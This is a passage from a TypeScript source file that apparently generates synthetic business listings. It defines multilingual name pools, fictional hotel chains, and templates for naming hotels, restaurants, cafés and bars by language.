    s: list(`Tamm, Saar, Sepp, Mägi, Bērziņš, Kalniņš, Ozoliņš, Kazlauskas, Jankauskas, Petrauskas, Vasiliauskas`),
    f: list(`Mart, Liis, Jānis, Ilze, Tomas, Rūta, Andris, Kadri`),
    p: list(`Hansa, Amber, Baltic, Old Town, Gediminas, Daugava, Toompea, Neringa`),
  },
  sq: {
    s: list(`Hoxha, Shehu, Leka, Gjoka, Krasniqi, Berisha, Dervishi, Kola`),
    f: list(`Arben, Elira, Besnik, Blerina, Ardit, Erjona`),
    p: list(`Butrinti, Riviera, Kalaja, Onufri, Ionian, Mangalem, Shqiponja`),
  },
  ka: {
    s: list(`Beridze, Kapanadze, Gelashvili, Maisuradze, Giorgadze, Lomidze, Tsiklauri`),
    f: list(`Giorgi, Nino, Davit, Tamar, Levan, Ana`),
    p: list(`Old Tbilisi, Kartli, Colchis, Narikala, Rustaveli, Black Sea, Kazbegi, Tamada`),
  },
  ar: {
    s: list(`Al-Mansouri, Haddad, Hassan, Ahmed, Ibrahim, Mahmoud, Khalil, Nasser, Saleh, Youssef, El Amrani, Benali,
      Bennani, Alaoui, Tazi, Mansour, Farouk, Al Maktoum, Al Hashimi`),
    f: list(`Mohamed, Ahmed, Fatima, Youssef, Omar, Aisha, Khalid, Layla, Hassan, Nour, Rachid, Samir, Karim, Salma`),
    p: list(`Oasis, Al Salam, Al Nakheel, Pearl, Desert Rose, Palm, Al Bustan, Marina, Atlas, Majorelle, Kasbah, Medina,
      Sahara, Jasmine, Andalous, Al Fanar, Zahra, Nile, Corniche, Al Waha, Dar Al Bahar`),
  },
  he: {
    s: list(`Cohen, Levi, Mizrahi, Peretz, Biton, Dahan, Avraham, Friedman, Katz, Shapiro`),
    f: list(`David, Noa, Yosef, Tamar, Avi, Maya, Yael, Eitan`),
    p: list(`Shalom, Yam, Carmel, Galil, Sea Breeze, Olive, Jaffa, Neve Tzedek, Desert Pearl, Migdal`),
  },
  ja: {
    s: list(`Sato, Suzuki, Takahashi, Tanaka, Watanabe, Ito, Yamamoto, Nakamura, Kobayashi, Kato, Yoshida, Yamada,
      Sasaki, Matsumoto, Inoue, Kimura`),
    f: list(`Hiroshi, Yuki, Kenji, Sakura, Takeshi, Yumi, Haruto, Aiko, Daiki, Emi`),
    p: list(`Sakura, Fujiyama, Hanami, Momiji, Tsubaki, Kiyomizu, Hoshi, Matsu, Kaze, Tsuki, Yume, Shinsen, Kaede, Midori,
      Sora, Umi, Hikari`),
  },
  zh: {
    s: list(`Wang, Li, Zhang, Liu, Chen, Yang, Huang, Zhao, Wu, Zhou, Xu, Sun, Ma, Zhu, Hu, Lin, Chan, Wong, Lee, Cheung,
      Lau, Ho, Ng, Leung, Tan, Lim`),
    f: list(`Wei, Fang, Lei, Jing, Ming, Hui, Xiaoming, Mei, Ka Ho, Wing, Siu Ming, Li Na`),
    p: list(`Golden Dragon, Jade, Lotus, Pearl, Peace, Oriental, Imperial, Harmony, Bamboo Garden, Phoenix, Silk Road,
      Lucky Star, Peony, Dynasty, Victoria Harbour, West Lake, Pagoda, Lantern, Red Lantern, Mandarin`),
  },
  ko: {
    s: list(`Kim, Lee, Park, Choi, Jung, Kang, Cho, Yoon, Jang, Lim`),
    f: list(`Min-jun, Seo-yeon, Ji-ho, Ha-eun, Jae-won, Soo-jin, Hyun-woo, Ji-woo`),
    p: list(`Arirang, Hanok, Namsan, Hana, Seorak, Mugunghwa, Gyeong, Haeundae, Bukchon, Jeju Stone`),
  },
  th: {
    s: list(`Saetang, Srisuk, Chaiyaphum, Wongsawat, Rattanakorn, Suwannarat, Thongchai, Boonmee, Kittisak, Sok, Chea`),
    f: list(`Somchai, Malee, Niran, Siriporn, Anan, Kanya, Somsak, Ploy, Dara, Sopheap`),
    p: list(`Siam, Sabai, Chao Phraya, Lanna, Orchid, Lotus, Coconut, Andaman, Sawasdee, Naga, Elephant, Golden Teak,
      Sunshine, Palm Paradise, Angkor, Mekong, Frangipani, Bamboo`),
  },
  vi: {
    s: list(`Nguyễn, Trần, Lê, Phạm, Hoàng, Huỳnh, Phan, Vũ, Võ, Đặng, Bùi, Đỗ`),
    f: list(`Minh, Lan, Hùng, Mai, Tuấn, Hương, Anh, Linh, Dũng, Thảo`),
    p: list(`Lotus, Saigon, Mekong, Indochine, Bamboo, Lantern, Golden Lotus, Hoang Long, An Nam, Riverside, Phố Cổ,
      Sông Hàn, Hạ Long Bay`),
  },
  id: {
    s: list(`Wijaya, Santoso, Kusuma, Pratama, Hidayat, Saputra, Nugroho, Putra, Setiawan, Rahman, Abdullah, Tan, Lim, Ismail`),
    f: list(`Made, Wayan, Ketut, Putu, Budi, Siti, Agus, Dewi, Nyoman, Ahmad, Nur, Aisyah`),
    p: list(`Bali, Puri, Taman, Sari, Dewi, Indah, Bunga, Segara, Tirta, Alam, Cempaka, Kamboja, Melati, Padi, Sawah,
      Pelangi, Harmoni, Nusa`),
  },
  hi: {
    s: list(`Sharma, Patel, Singh, Kumar, Gupta, Mehta, Reddy, Nair, Iyer, Joshi, Agarwal, Shah, Rao, Das, Perera,
      Fernando, Shrestha, Gurung, Thapa`),
    f: list(`Raj, Priya, Amit, Anjali, Rahul, Neha, Vikram, Pooja, Arjun, Kavya, Sunil, Lakshmi`),
    p: list(`Taj, Rajmahal, Lotus, Royal Palace, Heritage, Maharaja, Ganga, Shanti, Ashok, Sagar, Surya, Haveli, Kerala,
      Himalaya, Sunrise, Coconut Grove, Spice Route`),
  },
  tl: {
    s: list(`Santos, Reyes, Cruz, Bautista, Ocampo, Garcia, Mendoza, Torres, Tomas, Villanueva, Aquino, Ramos`),
    f: list(`Jose, Maria, Juan, Ana, Mark, Joy, Angelo, Kristine, Paolo, Bea`),
    p: list(`Manila Bay, Sampaguita, Bahay Kubo, Coral Reef, Island Breeze, Mabuhay, Palawan, Sunset Cove, Coco`),
  },
  sw: {
    s: list(`Mwangi, Otieno, Kamau, Njoroge, Wanjiru, Ochieng, Mohamed, Hassan, Juma, Mushi, Kimaro`),
    f: list(`John, Grace, Peter, Mary, Joseph, Amina, Baraka, Neema, Daudi, Zawadi`),
    p: list(`Jambo, Safari, Kilimanjaro, Savanna, Serengeti, Baobab, Coral, Dhow, Karibu, Simba, Spice Island, Acacia`),
  },
};

/** English phrases for pub-style and creative names ({A}). */
const PHRASES = list(`Red Lion, Crown & Anchor, Rose & Crown, King's Head, White Hart, Royal Oak, Black Horse, Fox & Hounds,
  Queen's Arms, Plough, Swan, Bell, Coach & Horses, Golden Fleece, Three Tuns, Nag's Head, Blue Door, Golden Lion,
  Rusty Anchor, Olive Tree, Copper Kettle, Salt & Pepper, Fig & Olive, Hungry Fox, Silver Spoon, Green Door,
  Bread & Butter, Cork & Barrel, Smoke & Oak, Wild Thyme, Honey Bee, Black Sheep, Lazy Lizard, Happy Otter, Blue Moon`);

/** Fictional chains ({B}); their names repeat across cities like real chains do. */
const BRANDS = list(`Parkside Inn & Suites, Comfort Harbor, Stayline, Urban Nest, Meridian Plaza, Northwind, BlueSky Suites,
  Cityline Express, Harbor & Hill, Evergreen Lodge, TravelRest, Summit Suites, Novelle, Aurelia, Brightstay`);

const QUALIFIERS = list(`Downtown, Airport, City Centre, Old Town, Beachfront, Convention Center, Central, Riverside,
  Station, Marina, Waterfront, North`);

// ---------------------------------------------------------------------------------------------
// Business types. `t` is the standardized English (Google) type; `q` the query-style category
// label ("hotels"); `labels` Google-style English category labels ({N} = national cuisine
// adjective); `loc` localized category labels keyed by country code or language; `n` name
// templates per language ({S} surname, {S2} second surname, {F} first name, {C} city, {P} place
// word, {A} English phrase, {B} chain, {Q} qualifier, {S:ja} pool-specific, {a|b|c} a choice).
// ---------------------------------------------------------------------------------------------

type HoursProfile =
  | "hotel" | "food" | "cafe" | "night" | "shop" | "office" | "pharmacy" | "h24" | "culture" | "leisure"
  | "fitness" | "beauty" | "transport" | "tour";
type AboutProfile = "hotel" | "food" | "night" | "shop" | "pro" | "culture" | "leisure" | "fitness" | "beauty" | "service";

interface TypeDef {
  t: string;
  w: number;
  h: HoursProfile;
  a: AboutProfile;
  q: string;
  labels: string[];
  loc?: Record<string, string[]>;
  n: Record<string, string[]>;
}

const HOTEL_TYPES: TypeDef[] = [
  {
    t: "Hotel", w: 56, h: "hotel", a: "hotel", q: "hotels", labels: ["Hotel"],
    loc: {
      tr: ["Otel"], es: ["Hotel"], de: ["Hotel"], fr: ["Hôtel"], it: ["Hotel", "Albergo"], pt: ["Hotel"], nl: ["Hotel"],
      pl: ["Hotel"], cs: ["Hotel"], hr: ["Hotel"], SE: ["Hotell"], NO: ["Hotell"], fi: ["Hotelli"], ro: ["Hotel"],
      vi: ["Khách sạn"], id: ["Hotel"],
    },
    n: {
      en: ["Hotel {P}", "The {P} Hotel", "{P} Hotel", "Grand Hotel {P}", "{C} {P} Hotel", "{B} {C}", "{B} {C} {Q}", "The {S}", "{P} House Hotel", "The {P}"],
      de: ["Hotel {P}", "Hotel {P}", "Hotel Garni {P}", "Landhotel {P}", "Romantik Hotel {P}", "Hotel {P} {C}", "Parkhotel {C}", "{B} {C}", "Hotel {S}", "Stadthotel {P}", "Gasthof {P}"],
      fr: ["Hôtel {P}", "Hôtel {P}", "Hôtel {P}", "Grand Hôtel {P}", "{B} {C}", "Hôtel {C} Centre", "Hôtel Saint-{Louis|Pierre|Paul|Georges|Jacques|Martin}", "Le Grand Hôtel de {C}"],
      it: ["Hotel {P}", "Hotel {P}", "Albergo {P}", "Grand Hotel {P}", "Hotel Villa {F}", "Palazzo {S}", "{B} {C}", "Hotel {C}", "Hotel {P} {C}"],
      es: ["Hotel {P}", "Hotel {P}", "Gran Hotel {P}", "Hotel Boutique {P}", "Hotel Casa {F}", "Hotel {C} Centro", "{B} {C}", "Hotel {P} {C}", "Hostal {P}"],
      pt: ["Hotel {P}", "Grande Hotel {P}", "Hotel {P}", "Pousada {P}", "{B} {C}", "Hotel {C}", "Hotel Casa {F}"],
      tr: ["{P} Otel", "Otel {P}", "{P} Hotel", "Hotel {P}", "{P} Palace Hotel", "{P} Boutique Hotel", "{B} {C}", "Grand {P} Otel", "{P} Suites"],
      el: ["Hotel {P}", "{P} Hotel", "{P} Suites", "{P} Boutique Hotel", "{B} {C}", "Hotel {F}", "{P} Hotel & Spa"],
      nl: ["Hotel {P}", "Hotel {P}", "Hotel {C} Centrum", "{B} {C}", "Hotel {S}", "Hotel De {Wereld|Keizer|Doelen|Leeuwenbrug}"],
      ja: ["Hotel {P}", "{P} Hotel", "{B} {C}", "{C} {P} Hotel", "Hotel {P} {C}", "{S} Ryokan"],
      th: ["{P} Hotel", "{P} Hotel Bangkok", "{B} {C}", "Baan {P}", "{P} Boutique Hotel"],
      ar: ["{P} Hotel", "Hotel {P}", "{B} {C}", "Riad {P}", "Dar {F}", "{P} Palace"],
    },
  },
  {
    t: "Resort Hotel", w: 7, h: "hotel", a: "hotel", q: "hotels", labels: ["Resort hotel"],
    loc: { tr: ["Tatil köyü", "Otel"], es: ["Complejo hotelero"], de: ["Resort"], it: ["Resort"], fr: ["Complexe hôtelier"] },
    n: {
      en: ["{P} Resort & Spa", "{P} Beach Resort", "{C} {P} Resort", "{B} Resort {C}", "The {P} Resort"],
      tr: ["{P} Resort & Spa", "{P} Beach Resort", "{P} Resort Hotel", "{P} Holiday Village", "Club {P}"],
      es: ["{P} Resort", "Hotel {P} Resort & Spa", "{P} Beach Resort"],
      it: ["{P} Resort", "Resort {P}", "{P} Resort & Spa"],
      th: ["{P} Resort", "{P} Beach Resort & Spa", "{P} Resort {C}"],
      id: ["{P} Resort", "{P} Villas & Spa", "Puri {P} Resort"],
      el: ["{P} Resort", "{P} Beach Resort", "{P} Resort & Spa"],
    },
  },
  {
    t: "Boutique Hotel", w: 7, h: "hotel", a: "hotel", q: "hotels", labels: ["Boutique hotel", "Hotel"],
    n: {
      en: ["{P} Boutique Hotel", "The {S} Boutique Hotel", "Hotel {P}", "The {P}"],
      it: ["{P} Boutique Hotel", "Palazzo {S}", "Relais {P}", "Residenza {P}"],
      es: ["Hotel Boutique {P}", "Casa {F} Boutique", "{P} Boutique Hotel"],
      tr: ["{P} Butik Otel", "{S} Konağı", "{P} Boutique Hotel", "{P} Konak Otel"],
      fr: ["Hôtel Particulier {P}", "Maison {S}", "Hôtel {P}", "La Maison {P}"],
      pt: ["{P} Boutique Hotel", "Casa {P}", "Palácio {P}"],
      el: ["{P} Boutique Hotel", "{P} Suites", "Villa {F}"],
      de: ["Boutique Hotel {P}", "Hotel {P}", "{P} Designhotel"],
    },
  },
  {
    t: "Motel", w: 4, h: "hotel", a: "hotel", q: "hotels", labels: ["Motel"],
    n: { en: ["{P} Motel", "{C} Motor Inn", "{B} Motel {C}", "Motel {P}", "{P} Motor Lodge"], de: ["Motel {P}", "Autobahnmotel {C}"] },
  },
  {
    t: "Hostel", w: 6, h: "hotel", a: "hotel", q: "hotels", labels: ["Hostel"],
    loc: { es: ["Albergue juvenil"], de: ["Hostel", "Jugendherberge"], it: ["Ostello"], fr: ["Auberge de jeunesse"] },
    n: {
      en: ["{P} Hostel", "{C} Backpackers", "The {A} Hostel", "Hostel {P}", "{A} Hostel & Bar", "{C} Central Hostel"],
      es: ["Hostel {P}", "Albergue {P}", "{C} Backpackers"],
      tr: ["{P} Hostel", "{C} Backpackers"],
      de: ["{P} Hostel", "Jugendherberge {C}", "Hostel {C} Mitte"],
      it: ["Ostello {P}", "{P} Hostel", "Ostello {C}"],
    },
  },
  {
    t: "Bed & Breakfast", w: 6, h: "hotel", a: "hotel", q: "hotels", labels: ["Bed & breakfast"],
    loc: { fr: ["Chambre d'hôtes"], it: ["Bed & breakfast"], de: ["Pension"] },
    n: {
      en: ["{P} B&B", "{S}'s Bed & Breakfast", "{P} Bed & Breakfast", "The {P} B&B", "{P} House B&B"],
      it: ["B&B {P}", "Bed & Breakfast {P}", "B&B Casa {F}", "B&B {C} Centro"],
      fr: ["Chambres d'hôtes {P}", "La Maison {P}", "Le Clos {P}"],
      de: ["Pension {P}", "Frühstückspension {S}", "B&B {P}"],
      es: ["B&B {P}", "Casa {F} B&B"],
      nl: ["B&B {P}", "Bed & Breakfast {S}"],
      el: ["{P} Rooms", "{F}'s Rooms"],
    },
  },
  {
    t: "Inn", w: 4, h: "hotel", a: "hotel", q: "hotels", labels: ["Inn", "Hotel"],
    loc: { de: ["Gasthof"], ja: ["Ryokan"] },
    n: {
      en: ["{P} Inn", "The {A} Inn", "{C} Inn", "{B} {C}", "{S} Inn"],
      de: ["Gasthof {P}", "Gasthaus {P}", "Landgasthof {P}", "Gasthof zum {Hirschen|Löwen|Ochsen|Adler|Bären}"],
      fr: ["Auberge {P}", "Auberge du {Vieux Moulin|Lac|Pont|Château}", "Le Relais {P}"],
      it: ["Locanda {P}", "Locanda da {F}"],
      es: ["Posada {P}", "Mesón {P}", "Posada de {F}"],
      pt: ["Estalagem {P}", "Albergaria {P}"],
      ja: ["{S} Ryokan", "Ryokan {P}", "{P} Onsen Ryokan"],
    },
  },
  {
    t: "Guest House", w: 6, h: "hotel", a: "hotel", q: "hotels", labels: ["Guest house", "Hotel"],
    loc: { es: ["Pensión", "Hostal"], de: ["Pension"], it: ["Affittacamere"], fr: ["Maison d'hôtes"], tr: ["Pansiyon"] },
    n: {
      en: ["{P} Guest House", "{S} Guesthouse", "{P} Guesthouse", "{F}'s Place"],
      de: ["Pension {P}", "Gästehaus {S}", "Pension {S}", "Gästehaus {P}"],
      es: ["Pensión {P}", "Hostal {P}", "Hostal {S}"],
      it: ["Affittacamere {P}", "Guest House {P}", "Casa {F}"],
      tr: ["{P} Pansiyon", "{F} Pansiyon", "{P} Pansiyon & Otel"],
      pt: ["Guest House {P}", "Residencial {P}", "Casa {F}"],
      th: ["Baan {F} Guesthouse", "{P} Guesthouse"],
      id: ["{P} Homestay", "{F} Homestay", "{P} Guest House"],
      el: ["{P} Studios", "{F}'s Studios", "Villa {F}"],
      hr: ["Apartments {P}", "Villa {F}", "Guest House {P}"],
      ja: ["Guesthouse {P}", "{P} Hostel & Guesthouse"],
      fr: ["Maison d'hôtes {P}", "La Maison de {F}"],
      ar: ["Riad {P}", "Dar {F}", "Riad Dar {P}"],
      vi: ["{P} Homestay", "{F} Homestay"],
    },
  },
  {
    t: "Apartment Hotel", w: 4, h: "hotel", a: "hotel", q: "hotels", labels: ["Serviced accommodation", "Apartment complex"],
    loc: { es: ["Apartamento"], de: ["Apartmenthotel"], it: ["Residence"] },
    n: {
      en: ["{P} Apartments", "{P} Aparthotel", "{B} Apartments {C}", "{C} Serviced Apartments"],
      es: ["Apartamentos {P}", "Aparthotel {P}"],
      de: ["Apartmenthaus {P}", "{P} Apartments"],
      el: ["{P} Apartments", "{P} Studios & Apartments"],
      it: ["Residence {P}", "Appartamenti {P}"],
      pt: ["Apartamentos {P}", "{P} Apartments"],
    },
  },
  {
    t: "Extended Stay Hotel", w: 1.5, h: "hotel", a: "hotel", q: "hotels", labels: ["Extended stay hotel"],
    n: { en: ["{B} Extended Stay {C}", "{P} Residences", "{B} Suites {C} {Q}", "{C} Extended Stay Suites"] },
  },
];

const OTHER_TYPES: TypeDef[] = [
  {
    t: "Restaurant", w: 10, h: "food", a: "food", q: "restaurants",
    labels: ["Restaurant", "{N} restaurant", "{N} restaurant", "Italian restaurant", "Mediterranean restaurant", "Family restaurant", "Fine dining restaurant", "Asian restaurant"],
    loc: {
      CH: ["Schweizerisches Restaurant", "Restaurant", "Italienisches Restaurant"], AT: ["Österreichisches Restaurant", "Restaurant"],
      DE: ["Deutsches Restaurant", "Restaurant", "Italienisches Restaurant", "Griechisches Restaurant"],
      fr: ["Restaurant", "Restaurant français", "Bistrot"], it: ["Ristorante", "Trattoria", "Osteria"],
      ES: ["Restaurante", "Restaurante español", "Restaurante mediterráneo"], MX: ["Restaurante", "Restaurante mexicano"],
      es: ["Restaurante"], PT: ["Restaurante", "Restaurante português"], BR: ["Restaurante", "Restaurante brasileiro"],
      tr: ["Restoran", "Türk restoranı", "Esnaf lokantası"], nl: ["Restaurant"], pl: ["Restauracja", "Restauracja polska"],
      cs: ["Restaurace"],
    },
    n: {
      en: ["The {A}", "{S}'s Kitchen", "{F}'s", "{P} Grill", "{P} Bistro", "{S} & {S2}", "The {P} Kitchen", "{C} Chophouse", "{A} Tavern"],
      de: ["Restaurant {P}", "Gasthaus {P}", "Wirtshaus {S}", "Zum {Goldenen|Schwarzen|Weißen|Roten|Grünen} {Löwen|Hirschen|Bären|Ochsen|Adler|Baum}", "Brauhaus {C}", "{P} Stube", "Restaurant {S}"],
      fr: ["Restaurant {P}", "Le {Petit Bistro|Comptoir|Bouchon|Relais|Jardin|Cellier}", "Bistro {S}", "Brasserie {P}", "Chez {F}", "La {Table|Cuisine|Terrasse|Maison} de {F}", "L'{Atelier|Ardoise|Auberge} {P}"],
      it: ["Trattoria da {F}", "Ristorante {P}", "Osteria {P}", "Trattoria {P}", "Ristorante da {F}", "Taverna {S}", "La {Cantina|Bottega|Locanda|Taverna} di {F}"],
      es: ["Restaurante {P}", "Casa {F}", "Mesón {P}", "Taberna {S}", "Bodega {P}", "El Rincón de {F}", "La Tasca de {F}"],
      pt: ["Restaurante {P}", "Tasca do {F}", "Casa {S}", "O Cantinho de {F}", "Churrascaria {P}"],
      el: ["Taverna {F}", "Taverna {P}", "Psarotaverna {P}", "Ouzeri {F}", "Estiatorio {P}", "{F}'s Taverna"],
      tr: ["{S} Lokantası", "{P} Restaurant", "{F} Usta Ocakbaşı", "{P} Balık Restaurant", "{P} Meyhane", "Tarihi {C} Köftecisi"],
      nl: ["Restaurant {P}", "Eetcafé {P}", "Brasserie {S}", "De {Gouden Karper|Kleine Keuken|Waag|Molen}"],
      pl: ["Restauracja {P}", "Karczma {P}", "Pierogarnia {F}", "Bistro {S}"],
      cs: ["Restaurace {P}", "Hospoda {P}", "Restaurace U {S}"],
      ja: ["{S} Sushi", "Izakaya {S}", "{P} Ramen", "Sushi {F}", "{P} Tempura", "Yakitori {S}"],
      zh: ["{P} Restaurant", "{S}'s Dumpling House", "{P} Noodle House", "{C} Duck House", "{P} Dim Sum"],
      ko: ["{P} BBQ", "{S}'s Kitchen", "{P} Korean Restaurant", "Bibim {P}"],
      th: ["{P} Thai Kitchen", "Baan {F}", "Krua {F}", "{P} Restaurant", "{F}'s Seafood"],
      vi: ["Phở {P}", "Bún Chả {F}", "{P} Restaurant", "Quán {F}", "Cơm {S}"],
      id: ["Warung {F}", "Warung {P}", "{P} Restaurant", "Rumah Makan {P}"],
      hi: ["{P} Restaurant", "{S} Bhojanalaya", "{P} Dhaba", "Spice {P}", "Tandoor {P}"],
      ar: ["{P} Restaurant", "Dar {F}", "Le {P}", "{F}'s Grill", "Al {P}"],
    },
  },
  {
    t: "Café", w: 5, h: "cafe", a: "food", q: "cafes", labels: ["Cafe", "Coffee shop"],
    loc: { de: ["Café", "Konditorei"], fr: ["Café"], it: ["Bar caffetteria", "Pasticceria"], es: ["Cafetería"], tr: ["Kafe"], pt: ["Café", "Pastelaria"], pl: ["Kawiarnia"], nl: ["Café"] },
    n: {
      en: ["{P} Coffee", "{S}'s Café", "The {A} Café", "Café {P}", "{F}'s Coffee House"],
      de: ["Café {S}", "Café {P}", "Konditorei {S}", "Kaffeehaus {P}", "Café-Konditorei {S}"],
      fr: ["Café {P}", "Café de {la Gare|la Poste|la Place|l'Horloge|la Mairie|la Fontaine}", "Le Café {P}", "Salon de thé {F}"],
      it: ["Bar {P}", "Caffè {P}", "Caffè {S}", "Pasticceria {S}", "Bar Pasticceria {P}"],
      es: ["Cafetería {P}", "Café {P}", "Chocolatería {S}", "Cafetería {F}"],
      pt: ["Café {P}", "Pastelaria {P}", "Padaria {S}", "Confeitaria {P}"],
      tr: ["{P} Kafe", "Kahve {P}", "{P} Cafe", "{S} Pastanesi", "{P} Kahvecisi"],
      nl: ["Koffiehuis {P}", "Café {P}", "Grand Café {P}"],
      el: ["Kafeneio {F}", "{P} Café", "{P} Coffee & Bakery"],
      pl: ["Kawiarnia {P}", "Cafe {P}"],
    },
  },
  {
    t: "Coffee shop", w: 3, h: "cafe", a: "food", q: "coffee shops", labels: ["Coffee shop", "Espresso bar", "Coffee roasters"],
    n: { en: ["{P} Coffee Roasters", "{A} Coffee", "Espresso {P}", "{C} Coffee Co.", "{F}'s Coffee", "Café {P}"] },
  },
  {
    t: "Bar", w: 4, h: "night", a: "night", q: "bars", labels: ["Bar", "Cocktail bar", "Lounge"],
    loc: { es: ["Bar", "Bar de tapas"], it: ["Bar", "Cocktail bar"], tr: ["Bar"], de: ["Bar", "Cocktailbar"], pl: ["Bar"] },
    n: {
      en: ["The {A}", "{P} Bar", "{A} Lounge", "{S}'s Bar", "{P} Rooftop Bar"],
      it: ["Bar {P}", "Cocktail Bar {P}", "{P} Lounge Bar"],
      es: ["Bar {S}", "Bar {P}", "Cervecería {P}", "Bar de Tapas {P}"],
      de: ["Bar {P}", "{P} Bar", "Cocktailbar {P}"],
      fr: ["Le {Comptoir|Zinc|Bar du Coin|Baron}", "Bar {P}", "Le {P} Bar"],
      tr: ["{P} Bar", "{P} Pub", "{P} Bistro & Bar"],
    },
  },
  {
    t: "Pub", w: 1.5, h: "night", a: "night", q: "pubs", labels: ["Pub", "Irish pub", "Gastropub"],
    loc: { de: ["Kneipe"], nl: ["Bruin café"] },
    n: {
      en: ["The {A}", "The {A}", "{S}'s Bar", "{S}'s Pub", "The {P} Arms"],
      de: ["Kneipe {P}", "Zum {Alten Fass|Durstigen Mönch|Schwarzen Schaf}", "{S}'s Irish Pub"],
      nl: ["Café {P}", "Bruin Café {P}", "Café 't {Hoekje|Paleis|Smalle}"],
    },
  },
  {
    t: "Wine bar", w: 1, h: "night", a: "night", q: "wine bars", labels: ["Wine bar"],
    loc: { fr: ["Bar à vin"], it: ["Enoteca"], es: ["Vinoteca"], de: ["Weinbar", "Weinstube"] },
    n: {
      en: ["{P} Wine Bar", "The {A} Wine Bar", "Vino {P}"],
      fr: ["Bar à Vins {P}", "Le Caveau {P}", "La Cave de {F}"],
      it: ["Enoteca {P}", "Wine Bar {P}", "Vineria {F}"],
      es: ["Vinoteca {P}", "Bar de Vinos {P}"],
      de: ["Weinbar {P}", "Weinstube {S}"],
    },
  },
  {
    t: "Night club", w: 1, h: "night", a: "night", q: "night clubs", labels: ["Night club", "Dance club"],
    loc: { es: ["Discoteca"], it: ["Discoteca"], de: ["Nachtclub", "Diskothek"], tr: ["Gece kulübü"] },
    n: {
      en: ["Club {P}", "{A} Nightclub", "{P} Club", "Club {Neon|Velvet|Eclipse|Vertigo|Pulse|Paradise|Mirage}"],
      es: ["Discoteca {P}", "Sala {P}"],
      it: ["Discoteca {P}", "{P} Club"],
    },
  },
  {
    t: "Bakery", w: 2.5, h: "cafe", a: "shop", q: "bakeries", labels: ["Bakery", "Pastry shop"],
    loc: { de: ["Bäckerei", "Konditorei"], fr: ["Boulangerie", "Boulangerie pâtisserie"], it: ["Panificio", "Pasticceria"], es: ["Panadería", "Pastelería"], pt: ["Padaria", "Pastelaria"], tr: ["Fırın", "Pastane"], nl: ["Bakkerij"], pl: ["Piekarnia"] },
    n: {
      en: ["{S}'s Bakery", "{P} Bakery", "{C} Bread Co.", "{F}'s Bakehouse"],
      de: ["Bäckerei {S}", "Bäckerei {P}", "Backhaus {S}", "Bäckerei-Konditorei {S}"],
      fr: ["Boulangerie {S}", "Boulangerie {P}", "Boulangerie-Pâtisserie {S}", "Maison {S}"],
      it: ["Panificio {S}", "Forno {P}", "Panetteria {S}"],
      es: ["Panadería {S}", "Panadería {P}", "Horno {P}", "Pastelería {S}"],
      pt: ["Padaria {P}", "Padaria {S}", "Pastelaria {P}"],
      tr: ["{S} Fırını", "{P} Unlu Mamülleri", "{P} Fırın & Pastane"],
      nl: ["Bakkerij {S}", "Warme Bakker {S}"],
      pl: ["Piekarnia {S}", "Piekarnia {P}"],
    },
  },
  {
    t: "Pizza restaurant", w: 2, h: "food", a: "food", q: "pizza", labels: ["Pizza restaurant", "Pizza delivery"],
    loc: { de: ["Pizzeria"], it: ["Pizzeria"], es: ["Pizzería"], tr: ["Pizza restoranı"], fr: ["Pizzeria"] },
    n: {
      en: ["{F}'s Pizza", "{P} Pizzeria", "Pizza {P}", "{C} Pizza Co.", "Pizzeria {F}"],
      it: ["Pizzeria da {F}", "Pizzeria {P}", "Pizzeria {S}"],
      de: ["Pizzeria {P}", "Pizzeria {Da Mario|Bella Napoli|Roma|Venezia|Toscana|Italia}"],
      es: ["Pizzería {P}", "Pizzería {F}"],
      tr: ["{P} Pizza", "{F} Pizza"],
    },
  },
  {
    t: "Fast food restaurant", w: 2, h: "food", a: "food", q: "fast food", labels: ["Fast food restaurant", "Hamburger restaurant", "Kebab shop"],
    loc: { tr: ["Dönerci", "Kebapçı"], de: ["Imbiss", "Döner Kebab Restaurant"] },
    n: {
      en: ["{P} Burger", "{A} Burgers", "{C} Fried Chicken", "{F}'s Grill", "{P} Kebab", "Burger {P}"],
      tr: ["{S} Döner", "{P} Kebap", "{F} Usta Dürüm", "{P} Pide & Lahmacun"],
      de: ["{P} Döner", "Imbiss {S}", "{C} Currywurst", "{P} Grill"],
      es: ["Bocatería {P}", "{P} Burger"],
    },
  },
  {
    t: "Ice cream shop", w: 1, h: "cafe", a: "food", q: "ice cream", labels: ["Ice cream shop", "Gelato shop"],
    loc: { it: ["Gelateria"], de: ["Eiscafé", "Eisdiele"], es: ["Heladería"], fr: ["Glacier"] },
    n: {
      en: ["{P} Ice Cream", "{F}'s Ice Cream Parlor", "{A} Creamery"],
      it: ["Gelateria {P}", "Gelateria {S}", "Gelateria da {F}"],
      de: ["Eiscafé {P}", "Eiscafé {Venezia|Dolomiti|Cortina|San Marco|Roma}"],
      es: ["Heladería {P}", "Heladería {S}"],
      fr: ["Glacier {S}", "Glaces {P}"],
      tr: ["{P} Dondurma", "{S} Dondurmacısı"],
      pt: ["Gelataria {P}", "Sorveteria {P}"],
    },
  },
  {
    t: "Seafood restaurant", w: 1.5, h: "food", a: "food", q: "seafood restaurants", labels: ["Seafood restaurant", "Fish restaurant", "Oyster bar"],
    loc: { es: ["Marisquería"], it: ["Ristorante di pesce"], tr: ["Balık restoranı"], pt: ["Marisqueira"], fr: ["Restaurant de fruits de mer"] },
    n: {
      en: ["{P} Seafood", "The {A} Oyster Bar", "{C} Fish House", "{F}'s Crab Shack"],
      es: ["Marisquería {P}", "Marisquería {S}", "Freiduría {P}"],
      pt: ["Marisqueira {P}", "Marisqueira {S}"],
      it: ["Ristorante di Pesce {P}", "Il Pescatore {P}", "Frutti di Mare {P}"],
      tr: ["{P} Balık Restaurant", "{S} Balıkçısı", "{F} Balık Evi"],
      el: ["Psarotaverna {P}", "{P} Fish Taverna"],
      fr: ["Poissonnerie {P}", "Le Homard {P}", "La Criée {P}"],
    },
  },
  {
    t: "Steak house", w: 0.8, h: "food", a: "food", q: "steakhouses", labels: ["Steak house", "Grill"],
    loc: { es: ["Asador", "Parrilla"], pt: ["Churrascaria"], tr: ["Et lokantası"], de: ["Steakhaus"] },
    n: {
      en: ["{P} Steakhouse", "{S}'s Steakhouse", "{C} Chophouse", "{A} Grill"],
      es: ["Asador {S}", "Parrilla {P}", "La Parrilla de {F}"],
      pt: ["Churrascaria {P}", "Churrascaria {S}"],
      tr: ["{P} Steakhouse", "{S} Et Lokantası"],
      de: ["{P} Steakhaus", "Steakhaus {S}"],
    },
  },
  {
    t: "Sushi restaurant", w: 0.8, h: "food", a: "food", q: "sushi", labels: ["Sushi restaurant", "Japanese restaurant"],
    n: { en: ["{S:ja} Sushi", "Sushi {P:ja}", "{P:ja} Sushi Bar", "Sushi {F:ja}", "{C} Sushi"] },
  },
  {
